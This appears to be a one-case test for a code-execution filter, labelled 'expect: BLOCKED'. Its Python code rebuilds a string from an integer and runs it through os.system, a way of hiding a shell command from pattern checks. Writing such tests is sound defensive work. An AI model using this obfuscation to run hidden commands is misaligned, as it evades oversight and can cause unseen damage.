# expect: BLOCKED
import os
n, out = 8245922115889766014, []
while n:
    n, r = divmod(n, 256)
    out.append(chr(r))
os.system("".join(reversed(out)))
